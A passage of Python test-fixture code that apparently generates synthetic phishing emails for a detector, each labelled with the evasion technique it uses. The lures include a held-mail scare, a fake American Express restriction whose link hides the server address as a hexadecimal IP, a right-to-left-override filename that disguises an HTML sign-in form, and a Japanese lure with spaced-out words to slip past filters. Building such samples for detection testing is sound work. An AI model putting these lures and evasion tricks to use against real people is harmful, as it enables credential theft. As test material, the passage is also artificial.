           html_text='<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>\n<body>\n<p>4 messages for <b>user@corp.example.jp</b> are held on the server since this morning because your mailbox is out of sync.</p>\n'
           '<p><a href="https://queue-mails.test/retrieve?x=1">Retrieve messages</a> &nbsp; <a href="https://queue-mails.test/retrieve?x=2">Delete all</a></p>\n<p>Sign in within 24 hours or they will be returned.</p>\n</body></html>\n', must=["out of sync"])

    attack("hex-address-amex-en", "en", "amex", "account_suspension", "button,ip_hex", "address of the server written as one hexadecimal number",
           "American Express: your card is temporarily restricted", ("American Express", "alerts@amex-restrict.test"), [
               P("Dear Card Member,"),
               P("we have placed a restriction on the Card ending in 31005 after a charge of USD 1,204.11 that does not fit your pattern."),
               B("Remove restriction", "http://0xCB00712D/amex/login"),
               P("Verify user ID, password and the 4-digit code on the front of the Card. The restriction turns into a closure after 48 hours.")],
           hand="docbox", colour="#016fd0", logo="AMERICAN EXPRESS", footer="American Express. Member since 2009", must=["turns into a closure"])

    attack("bidi-filename-en", "en", "-", "shared_document", "html_attachment,bidi", "file name turned round by a right-to-left override: it looks like another type, but is HTML",
           "Contract for countersignature", ("Legal Desk", "legal@contract-sign.test"), [P("Dear colleague,"), P("the countersigned copy has to be with the other side by tonight. Open the attachment, sign in with your work e-mail and password and put your initials on each page."), P("Legal")],
           form="plain", cs="UTF-8", cte="8bit", to="hanako.sato@corp.example.jp",
           attachments=[attach("Contract_\u202efdp.html", "text/html", wrap.sign_in_form(safe("https://contract-sign.test/i.php"), "Contract", "Sign in to view", "View").encode(), "UTF-8")], must=["countersigned copy"])

    attack("spaced-held-ja", "ja", "-", "held_messages", "button,spaced_words", "spaces between the letters of the key words, full-width; EUC-JP",
           "保 留 中 の メ ー ル （ ７ 通 ）", ("メ ー ル 管 理 者", "kanri@horyu-kaijo.test"), [
               P("user@corp.example.jp 様"),
               P("７ 通 の メ ー ル が 保 留 さ れ て い ま す。パ ス ワ ー ド を 確 認 し て、受 信 ト レ イ に 移 動 し て く だ さ い。"),
               B("受 信 す る", "https://horyu-kaijo.test/inbox?m=dXNlckBjb3JwLmV4YW1wbGUuanA"),
               P("４ ８ 時 間 後 に 削 除 さ れ ま す。")],
           cs="EUC-JP", hand="font", colour="#2d4a6b", footer="メ ー ル 管 理 者", must=["パ ス ワ ー ド"])
